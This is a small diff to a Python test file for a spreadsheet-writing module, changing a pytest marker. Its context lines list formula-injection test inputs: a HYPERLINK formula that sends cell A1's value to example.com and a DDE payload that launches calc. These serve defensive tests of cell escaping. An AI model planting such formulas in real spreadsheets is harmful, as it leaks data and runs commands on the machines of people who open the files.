@@ -23,7 +23,7 @@ from backoffice.spreadsheets.writing import (
     xlsx_pieces,
 )
 
-pytestmark = pytest.mark.no_database
+pytestmark = pytest.mark.once
 COMMANDS = ["1+1", 'HYPERLINK("http://example.com/?"&A1)', "cmd|' /C calc'!A0", "SUM(1)*DDE()"]
 STARTS = [
     "=",
